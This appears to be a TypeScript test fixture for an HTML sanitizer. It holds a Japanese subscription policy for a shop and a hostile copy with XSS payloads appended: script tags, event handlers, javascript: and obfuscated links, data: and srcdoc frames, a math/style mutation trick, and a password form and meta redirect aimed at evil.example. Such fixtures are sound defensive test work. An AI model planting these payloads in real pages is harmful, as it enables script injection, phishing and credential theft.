/** The shop's subscription policy as a merchant writes it in an editor: headings, lists, links. */
export const subscriptionPolicy = `<h2>解約とお休み</h2>
<p>定期便は、次回お届け予定日の<strong>七日前まで</strong>、いつでも<a href="/account">マイページ</a>から解約・お休みいただけます。</p>
<ul>
<li>解約の手数料や、お申し込み回数のしばりはありません。</li>
<li>お届け予定日の六日前からは、その回のお届けの後に解約となります。</li>
</ul>
<h2>お支払いと価格の変更</h2>
<ol>
<li>お届けのたびに、ご登録のお支払い方法へ請求します。</li>
<li>価格を変えるときは、三十日前までにメールでお知らせします。</li>
</ol>
<p>ご不明な点は<a href="https://karui-chaho.example/pages/contact" target="_self">お問い合わせ</a>からどうぞ。</p>`;

/** The same policy with scripts and other things that no page may run or load, as an attacker could paste them into the editor. */
export const hostileSubscriptionPolicy = `${subscriptionPolicy}
<script>window.policyRan = 'script'</script>
<img src="/nix.png" onerror="window.policyRan = 'onerror'">
<a href="javascript:window.policyRan='link'">解約はこちら</a>
<a href=" java&#10;script:window.policyRan='broken link'">こちら</a>
<a href="data:text/html,<script>parent.policyRan='data'</script>">データ</a>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>parent.policyRan='srcdoc'</script>"></iframe>
<svg onload="window.policyRan='svg'"><a xlink:href="javascript:window.policyRan='svg link'"><text>絵</text></a></svg>
<math><mtext><style><img src="/nix.png" onerror="window.policyRan='math'"></style></mtext></math>
<p style="position:fixed;inset:0;z-index:9999;background:url(/nix.png)" onmouseover="window.policyRan='over'" id="cart">全面</p>
<form action="https://evil.example/"><input name="password"><button formaction="javascript:window.policyRan='form'">送信</button></form>
<object data="/nix.swf"></object><embed src="/nix.swf"><link rel="stylesheet" href="/nix.css"><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<style>body{display:none}</style>`;
